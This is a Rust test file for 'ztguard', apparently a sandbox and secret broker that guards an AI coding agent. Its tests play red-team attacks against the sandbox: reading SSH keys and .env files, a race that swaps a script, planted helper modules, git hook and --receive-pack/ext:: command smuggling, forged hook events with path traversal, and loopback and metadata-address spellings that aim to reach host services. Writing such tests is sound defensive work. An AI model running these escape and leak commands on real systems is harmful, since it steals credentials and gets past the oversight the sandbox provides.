    assert!(out.contains("finished"), "{out}");
    // The command itself takes interrupts as usual: SIGINT (2) and
    // SIGQUIT (3) are not in its ignored set.
    let out = exec(&e, &[], "grep SigIgn /proc/self/status");
    let ignored = stdout(&out)
        .trim()
        .strip_prefix("SigIgn:")
        .and_then(|m| u64::from_str_radix(m.trim(), 16).ok())
        .unwrap_or_else(|| panic!("{}", stdout(&out)));
    assert_eq!(ignored & 0b110, 0, "{ignored:#x}");
    // ztguard exec killed: the sandbox does not run on without it. (Its
    // processes have pids of their own inside: found here by command line.)
    // With the agent's state, so the run has its copies of it too.
    std::fs::create_dir_all(e.home.join(".claude")).unwrap();
    std::fs::write(e.home.join(".claude.json"), "{}").unwrap();
    let mut c = e
        .cmd(&[
            "exec",
            "--",
            "sh",
            "-c",
            "echo $$ > b.pid; exec sleep 30.25",
        ])
        .spawn()
        .unwrap();
    pid_of("b.pid");
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
    while running("30.25").is_empty() && std::time::Instant::now() < deadline {
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    assert!(!running("30.25").is_empty());
    c.kill().unwrap();
    let _ = c.wait();
    gone(&running("30.25"));
    // The killed run left its masking placeholders; the next run sweeps them.
    let run_dir = e.home.join(".local/share/ztguard/run");
    for left in [
        format!("ztguard-exec-{}", c.id()),
        format!("claude-json-{}.json", c.id()),
        format!("shell-snapshots-{}", c.id()),
    ] {
        let left = run_dir.join(left);
        assert!(left.exists(), "{}", left.display());
    }
    let out = exec(&e, &[], "true");
    assert_eq!(out.status.code(), Some(0));
    assert!(
        std::fs::read_dir(&run_dir).unwrap().next().is_none(),
        "a run's files left behind in {}",
        run_dir.display()
    );
    // A command put in the background, in a session of its own, does not
    // outlive `exec` either (it could wait for the user's shell to return).
    let out = exec(&e, &[], "setsid sleep 31.25 & echo started");
    assert!(stdout(&out).contains("started"));
    gone(&running("31.25"));
}

#[test]
fn the_policys_own_readable_and_writable_trees_are_the_kernels_too() {
    let Some(e) = sandboxed() else {
        return;
    };
    e.user_policy_with(&[
        (
            "\"/tmp/**\", \"**\", \"~/.cargo/registry/**\"",
            "\"/tmp/**\", \"**\", \"~/datasets/**\", \"~/**\", \"~/.cargo/registry/**\"",
        ),
        (
            "write = [\"/tmp/**\", \"**\"]",
            "write = [\"/tmp/**\", \"**\", \"~/notes/**\"]",
        ),
    ]);
    for (p, text) in [
        ("datasets/a.csv", "1,2\n"),
        ("notes/old.txt", "old\n"),
        ("other/x.txt", "other\n"),
    ] {
        let p = e.home.join(p);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, text).unwrap();
    }
    let out = exec(
        &e,
        &[],
        "cat ~/datasets/a.csv; echo \"data=$?\"; echo x > ~/datasets/b.csv; echo \"data-write=$?\"; \
         echo new > ~/notes/new.txt; echo \"notes=$?\"; cat ~/other/x.txt; echo \"other=$?\"; \
         cat ~/.ssh/id_rsa; echo \"ssh=$?\"",
    );
    let text = stdout(&out);
    for expected in ["1,2", "data=0", "notes=0", "other=1", "ssh=1"] {
        assert!(
            text.contains(expected),
            "no {expected}: {text}\n{}",
            stderr(&out)
        );
    }
    // Read-only where the policy grants reading only; `~/**` (the whole home) is the hook's alone.
    assert!(
        !text.contains("data-write=0") && !text.contains("FAKE"),
        "{text}"
    );
    assert_eq!(
        std::fs::read_to_string(e.home.join("notes/new.txt")).unwrap(),
        "new\n"
    );
}

#[test]
fn no_unix_socket_reaches_out_unless_asked_for() {
    let Some(e) = sandboxed() else {
        return;
    };
    // A socket served outside, as the Docker daemon or an ssh agent would be.
    let path = e.project.join("agent.sock");
    let listener = std::os::unix::net::UnixListener::bind(&path).unwrap();
    std::thread::spawn(move || {
        for c in listener.incoming().flatten() {
            use std::io::Write;
            let mut c = c;
            let _ = c.write_all(b"served-outside");
        }
    });
    let probe = "python3 -c \"import socket\n\
try:\n s = socket.socket(socket.AF_UNIX); s.connect('agent.sock'); print('got', s.recv(64))\n\
except OSError as e:\n print('refused', e.errno)\n\
a, b = socket.socketpair(); a.send(b'x'); print('pair', b.recv(1))\"";
    let out = exec(&e, &[], probe);
    let text = stdout(&out);
    assert!(
        text.contains("refused 13") && !text.contains("served-outside"),
        "{text}\n{}",
        stderr(&out)
    );
    assert!(text.contains("pair b'x'"), "socketpair still works: {text}");
    let out = exec(&e, &["--allow-unix-sockets"], probe);
    assert!(stdout(&out).contains("served-outside"), "{}", stdout(&out));
}

#[test]
fn an_unprivileged_user_gets_the_same_sandbox() {
    let Some(e) = sandboxed() else {
        return;
    };
    // SAFETY: geteuid cannot fail and touches no memory.
    if unsafe { libc::geteuid() } != 0 {
        // Every other test here already runs unprivileged.
        return;
    }
    // Run as nobody: the bridge must not need privileges of its own
    // (binding the proxy and the broker inside the sandbox's namespace).
    let root = e.project.parent().unwrap().to_path_buf();
    let bin = root.join("ztguard");
    std::fs::copy(env!("CARGO_BIN_EXE_ztguard"), &bin).unwrap();
    let event = e.event(
        "PreToolUse",
        "Bash",
        serde_json::json!({"command": "cat .env"}),
    );
    std::fs::write(e.project.join("event.json"), event).unwrap();
    let status = std::process::Command::new("chown")
        .args(["-R", "65534:65534"])
        .arg(&root)
        .status()
        .unwrap();
    assert!(status.success());
    let script = format!(
        "id -u; cat ~/.ssh/id_rsa; echo \"ssh=$?\"; cat .env; echo \"env=$?\"; echo x > inside; echo \"in=$?\"; \
         {} hook < event.json",
        bin.display()
    );
    let out = std::process::Command::new("setpriv")
        .args(["--reuid=65534", "--regid=65534", "--clear-groups"])
        .arg(&bin)
        .args(["exec", "--", "sh", "-c", &script])
        .current_dir(&e.project)
        .env_clear()
        .env("HOME", &e.home)
        .env("PATH", "/usr/bin:/bin")
        .env("ZTGUARD_MANAGED_POLICY", e.home.join("no-managed.toml"))
        .output()
        .unwrap();
    let (text, err) = (stdout(&out), stderr(&out));
    assert_eq!(out.status.code(), Some(0), "{text}\n{err}");
    for expected in [
        "65534\n",
        "ssh=1",
        "env=1",
        "in=0",
        "\"permissionDecision\":\"deny\"",
    ] {
        assert!(text.contains(expected), "no {expected}: {text}\n{err}");
    }
    assert!(!text.contains("FAKE"), "{text}");
    let run_dir = e.home.join(".local/share/ztguard/run");
    assert!(
        std::fs::read_dir(&run_dir).unwrap().next().is_none(),
        "placeholders left behind by an unprivileged run"
    );
}

/// The secret broker's pinning (red-team C6): the race between the check
/// and the start, helpers beside the script, and tools that obey a
/// directory the agent picks.
#[test]
fn an_operation_runs_what_was_checked_and_nothing_beside_it() {
    let Some(e) = sandboxed() else {
        return;
    };
    init(&e);
    common::with_deploy_secret(&e);
    let token = common::fake_token();
    let scripts = e.project.join("scripts");
    // A script that loads a helper from beside it.
    std::fs::write(
        scripts.join("deploy.sh"),
        "#!/bin/sh\n. \"$(dirname \"$0\")/lib.sh\"\nlog deploying\n",
    )
    .unwrap();
    std::fs::write(scripts.join("lib.sh"), "log() { echo \"log: $*\"; }\n").unwrap();
    std::fs::write(scripts.join("deploy.py"), "import json\nprint('py-ok')\n").unwrap();
    std::fs::write(
        e.home.join(".config/ztguard/policy.toml"),
        "[secrets.deploy]\nfrom_file = \"~/.config/deploy/token\"\nenv = \"DEPLOY_TOKEN\"\nallow = [\"./scripts/deploy.sh *\", \"python3 scripts/deploy.py\"]\n",
    )
    .unwrap();
    let leak = e.project.join("leak");

    // (c) the race of the report: the script swapped between the check and
    // the start, by link + rename in a tight loop. Never once the secret.
    let out = exec_with_ztguard(
        &e,
        &[],
        &format!(
            "cp scripts/deploy.sh .good; printf '#!/bin/sh\\nprintf %%s \"$DEPLOY_TOKEN\" >> {leak}\\n' > .evil; \
             chmod +x .good .evil; \
             python3 -c 'import os,time\nend=time.time()+6\nwhile time.time()<end:\n for s in (\".good\",\".evil\"):\n  t=\".tmp\"\n  os.path.lexists(t) and os.unlink(t)\n  os.link(s,t); os.rename(t,\"scripts/deploy.sh\")\nos.path.lexists(\".tmp\") and os.unlink(\".tmp\")\nos.link(\".good\",\".tmp\"); os.rename(\".tmp\",\"scripts/deploy.sh\")' & \
             ok=0; for i in $(seq 1 30); do ztguard run deploy -- ./scripts/deploy.sh >/dev/null 2>&1 && ok=$((ok+1)); done; wait; echo \"ran=$ok\"",
            leak = leak.display()
        ),
    );
    let text = stdout(&out);
    assert!(text.contains("ran="), "{text}\n{}", stderr(&out));
    assert!(!text.contains("ran=0"), "the unchanged script ran: {text}");
    let leaked = std::fs::read_to_string(&leak).unwrap_or_default();
    assert!(
        !leaked.contains(&token) && leaked.is_empty(),
        "the race released the secret: {text}"
    );
    std::fs::write(
        scripts.join("deploy.sh"),
        "#!/bin/sh\n. \"$(dirname \"$0\")/lib.sh\"\nlog deploying\n",
    )
    .unwrap();
    for f in [".good", ".evil", ".tmp"] {
        let _ = std::fs::remove_file(e.project.join(f));
    }

    // The pinned script and its helper, unchanged: it runs.
    let out = exec_with_ztguard(
        &e,
        &[],
        "ztguard run deploy -- ./scripts/deploy.sh; echo \"rc=$?\"",
    );
    assert!(
        stdout(&out).contains("log: deploying") && stdout(&out).contains("rc=0"),
        "{}\n{}",
        stdout(&out),
        stderr(&out)
    );
    let out = exec_with_ztguard(
        &e,
        &[],
        "ztguard run deploy -- python3 scripts/deploy.py; echo \"py=$?\"",
    );
    assert!(
        stdout(&out).contains("py-ok") && stdout(&out).contains("py=0"),
        "{}\n{}",
        stdout(&out),
        stderr(&out)
    );

    // (a) a helper changed beside the script, and a module planted beside it.
    for (plant, file) in [
        (
            format!(
                "echo 'printf %s \"$DEPLOY_TOKEN\" > {}' >> scripts/lib.sh",
                leak.display()
            ),
            "lib.sh",
        ),
        (
            format!(
                "printf 'import os\\nopen(\"{}\",\"w\").write(os.environ.get(\"DEPLOY_TOKEN\",\"\"))\\n' > scripts/json.py",
                leak.display()
            ),
            "json.py",
        ),
    ] {
        let out = exec_with_ztguard(
            &e,
            &[],
            &format!(
                "{plant}; ztguard run deploy -- ./scripts/deploy.sh; echo \"rc=$?\"; \
                 ztguard run deploy -- python3 scripts/deploy.py; echo \"py=$?\""
            ),
        );
        let (text, err) = (stdout(&out), stderr(&out));
        assert!(
            text.contains("rc=2") && text.contains("py=2"),
            "{file}: {text}\n{err}"
        );
        assert!(
            err.contains(file) && err.contains("beside a script"),
            "{file}: {err}"
        );
        assert!(
            !std::fs::read_to_string(&leak)
                .unwrap_or_default()
                .contains(&token)
        );
        let _ = std::fs::remove_file(scripts.join("json.py"));
        std::fs::write(scripts.join("lib.sh"), "log() { echo \"log: $*\"; }\n").unwrap();
    }
}

#[test]
fn an_operation_runs_in_the_project_with_its_own_repository_and_no_program_of_the_agents() {
    let Some(e) = sandboxed() else {
        return;
    };
    init(&e);
    common::with_deploy_secret(&e);
    std::fs::write(
        e.home.join(".config/ztguard/policy.toml"),
        "[secrets.gh]\nfrom_file = \"~/.config/deploy/token\"\nenv = \"GITHUB_TOKEN\"\nallow = [\"git push *\", \"git status *\"]\n",
    )
    .unwrap();
    let git = |args: &[&str]| {
        std::process::Command::new("git")
            .args(args)
            .current_dir(&e.project)
            .env("HOME", &e.home)
            .output()
            .unwrap()
    };
    git(&["init", "-q", "."]);
    let token = common::fake_token();
    let leak = e.project.join("leak");
    // (b) a repository inside the project with a pre-push hook (made
    // before the session: one the session makes is also caught, as a change
    // of the host's configuration).
    let work = e.project.join("work");
    std::fs::create_dir_all(work.join(".hk")).unwrap();
    let in_work = |args: &[&str]| {
        let out = std::process::Command::new("git")
            .args(args)
            .current_dir(&work)
            .env("HOME", &e.home)
            .output()
            .unwrap();
        assert!(out.status.success(), "{args:?}: {}", stderr(&out));
    };
    in_work(&["init", "-q", "."]);
    in_work(&[
        "-c",
        "user.name=a",
        "-c",
        "user.email=a@x",
        "commit",
        "-q",
        "--allow-empty",
        "-m",
        "x",
    ]);
    in_work(&["init", "-q", "--bare", "../work-remote.git"]);
    in_work(&["remote", "add", "origin", "../work-remote.git"]);
    std::fs::write(
        work.join(".hk/pre-push"),
        format!(
            "#!/bin/sh\nprintf %s \"$GITHUB_TOKEN\" > {}\n",
            leak.display()
        ),
    )
    .unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(
        work.join(".hk/pre-push"),
        std::fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    in_work(&["config", "core.hooksPath", ".hk"]);
    let out = exec_with_ztguard(
        &e,
        &[],
        &format!(
            "cd work && ztguard run gh -- git push -q origin HEAD:refs/heads/main; echo \"nested=$?\"; \
             cd .. && ztguard run gh -- git -c core.hooksPath=work/.hk push -q work-remote.git HEAD; echo \"dash-c=$?\"; \
             ztguard run gh -- git push --receive-pack='sh -c \"env > {leak}\"' work-remote.git HEAD; echo \"receive-pack=$?\"; \
             ztguard run gh -- git push 'ext::sh -c env% >{leak}' HEAD; echo \"ext=$?\"; \
             ztguard run gh -- git -C work push -q origin HEAD; echo \"dash-C=$?\"",
            leak = leak.display()
        ),
    );
    let (text, err) = (stdout(&out), stderr(&out));
    for case in [
        "nested=2",
        "dash-c=2",
        "receive-pack=2",
        "ext=2",
        "dash-C=2",
    ] {
        assert!(text.contains(case), "{case}: {text}\n{err}");
    }
    assert!(err.contains("a repository of its own"), "{err}");
    assert!(
        !std::fs::read_to_string(&leak)
            .unwrap_or_default()
            .contains(&token)
    );
    // The project's own repository: allowed.
    let out = exec_with_ztguard(
        &e,
        &[],
        "ztguard run gh -- git status --short; echo \"own=$?\"",
    );
    assert!(
        stdout(&out).contains("own=0"),
        "{}\n{}",
        stdout(&out),
        stderr(&out)
    );
    // A directory spelt inside the project that is outside it (L3), sent
    // to the broker as is.
    let dotdot = format!("{}/../../../../../../../../../tmp", e.project.display());
    std::fs::write(
        e.project.join("req"),
        format!(
            "{{\"op\":\"run\",\"secrets\":[\"gh\"],\"argv\":[\"git\",\"status\",\"x\"],\"cwd\":\"{dotdot}\"}}\n"
        ),
    )
    .unwrap();
    let out = exec_with_ztguard(
        &e,
        &[],
        "bash -c 'exec 3<>/dev/tcp/127.0.0.1/3129; cat req >&3; head -c 400 <&3 | tr -dc \"[:print:]\"; echo'",
    );
    assert!(
        stdout(&out).contains("runs inside the project"),
        "{}\n{}",
        stdout(&out),
        stderr(&out)
    );
}

/// The broker's hook is no deputy for the sandbox (red-team L3): a forged
/// PostToolUse naming a file outside the project is not hashed, a cwd
/// spelt inside the project but outside it is refused, and the records
/// made from the sandbox's events say so.
#[test]
fn forged_hook_events_from_the_sandbox_hash_nothing_outside_the_project() {
    let Some(e) = sandboxed() else {
        return;
    };
    init(&e);
    let key = e.home.join(".ssh/id_rsa");
    assert!(key.exists(), "the test home holds a fake key");
    let mut events = String::new();
    for (i, (cwd, file)) in [
        (e.project.clone(), key.clone()),
        (e.project.clone(), e.project.join("../home/.ssh/id_rsa")),
        (e.project.clone(), e.project.join("ok.sh")),
        (
            e.project.join("../../../../../../../../../tmp"),
            e.project.join("ok.sh"),
        ),
    ]
    .into_iter()
    .enumerate()
    {
        let ev = e
            .event(
                "PostToolUse",
                "Write",
                serde_json::json!({"file_path": file, "content": "x"}),
            )
            .replace(
                &format!("\"cwd\":\"{}\"", e.project.display()),
                &format!("\"cwd\":\"{}\"", cwd.display()),
            );
        std::fs::write(e.project.join(format!("ev{i}.json")), ev).unwrap();
        events.push_str(&format!("ztguard hook < ev{i}.json; echo \"ev{i}=$?\"; "));
    }
    std::fs::write(e.project.join("ok.sh"), "echo ok\n").unwrap();
    let out = exec_with_ztguard(&e, &[], &events);
    let (text, err) = (stdout(&out), stderr(&out));
    // (PostToolUse decides nothing: the refusal is a message, not a status.)
    assert!(
        text.contains("tool calls run in the project") && text.contains("tmp\"}\nev3="),
        "{text}\n{err}"
    );
    let ledger =
        std::fs::read_to_string(e.project.join(".ztguard/provenance.json")).unwrap_or_default();
    assert!(ledger.contains("ok.sh"), "{ledger}\n{text}\n{err}");
    let key_hash = format!(
        "{:x}",
        <sha2::Sha256 as sha2::Digest>::digest(std::fs::read(&key).unwrap())
    );
    assert!(!ledger.contains(&key_hash), "{ledger}");
    assert!(!ledger.contains("id_rsa"), "{ledger}");
    let records = e.audit();
    let from_sandbox: Vec<_> = records
        .iter()
        .filter(|r| r["event"] == "PostToolUse")
        .collect();
    assert!(!from_sandbox.is_empty(), "{records:?}");
    assert!(
        from_sandbox.iter().all(|r| r["supplied_by"] == "sandbox"),
        "{from_sandbox:?}"
    );
}

/// The proxy and the host's loopback (red-team M3, L1): the model API's
/// host only on the upstream's own port, and no spelling of a loopback
/// address past a policy that allows every host by default.
#[test]
fn the_proxy_reaches_no_host_service_by_the_api_host_or_by_another_spelling() {
    let Some(e) = sandboxed() else {
        return;
    };
    let serve = || {
        let server = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = server.local_addr().unwrap().port();
        std::thread::spawn(move || {
            for mut c in server.incoming().flatten() {
                use std::io::{Read, Write};
                let mut buf = [0u8; 1024];
                let _ = c.read(&mut buf);
                let _ = c.write_all(
                    b"HTTP/1.0 200 OK\r\nContent-Length: 23\r\n\r\ninternal-service-secret",
                );
            }
        });
        port
    };
    let (api, other) = (serve(), serve());
    let connect = |target: &str| {
        format!(
            "python3 -c \"import socket\ns=socket.create_connection(('127.0.0.1', 3128), timeout=5)\ns.sendall(b'CONNECT {target} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\nGET / HTTP/1.0\\r\\n\\r\\n')\nimport time; time.sleep(0.5)\nprint('{target}', s.recv(400).decode(errors='replace').replace(chr(13)+chr(10),' '))\"; "
        )
    };
    let run = |script: &str| {
        e.cmd(&["exec", "--", "sh", "-c", script])
            .env("ANTHROPIC_API_KEY", "sk-ant-FAKE-test-key-0001")
            .env("ANTHROPIC_BASE_URL", format!("http://127.0.0.1:{api}"))
            .output()
            .unwrap()
    };
    let out =
        run(&(connect(&format!("127.0.0.1:{api}")) + &connect(&format!("127.0.0.1:{other}"))));
    let text = stdout(&out);
    assert!(
        text.contains(&format!("127.0.0.1:{api} HTTP/1.1 200")),
        "the API's own port: {text}\n{}",
        stderr(&out)
    );
    assert!(
        text.contains(&format!("127.0.0.1:{other} HTTP/1.1 403")),
        "another port of the API's host: {text}"
    );
    // Every host allowed by default; loopback in every spelling still refused.
    std::fs::write(
        e.project.join(".ztguard.toml"),
        "[network]\ndefault = \"allow\"\nask = []\n",
    )
    .unwrap();
    let mut script = String::new();
    for host in [
        "127.0.0.1",
        "127.1",
        "2130706433",
        "0x7f.1",
        "0x7f000001",
        "0177.0.0.1",
        "[::ffff:127.0.0.1]",
        "[::1]",
        "localhost",
        "0.0.0.0",
        "169.254.169.254",
    ] {
        script.push_str(&connect(&format!("{host}:{other}")));
    }
    // A name the policy allows by default that resolves to loopback (this
    // machine's own name, where /etc/hosts maps it so).
    let mut expected = 11;
    let name = std::process::Command::new("hostname")
        .output()
        .map(|o| String::from_utf8_lossy(&o.stdout).trim().to_string())
        .unwrap_or_default();
    use std::net::ToSocketAddrs;
    let loops = (name.as_str(), 80)
        .to_socket_addrs()
        .map(|a| a.collect::<Vec<_>>())
        .unwrap_or_default();
    if !name.is_empty()
        && name != "localhost"
        && !loops.is_empty()
        && loops
            .iter()
            .all(|a| a.ip() == std::net::Ipv4Addr::LOCALHOST)
    {
        script.push_str(&connect(&format!("{name}:{other}")));
        expected += 1;
    }
    let out = e
        .cmd(&["exec", "--no-gateway", "--", "sh", "-c", &script])
        .output()
        .unwrap();
    let text = stdout(&out);
    assert_eq!(
        text.matches(" HTTP/1.1 403").count(),
        expected,
        "{text}\n{}",
        stderr(&out)
    );
    assert!(!text.contains("internal-service-secret"), "{text}");
}
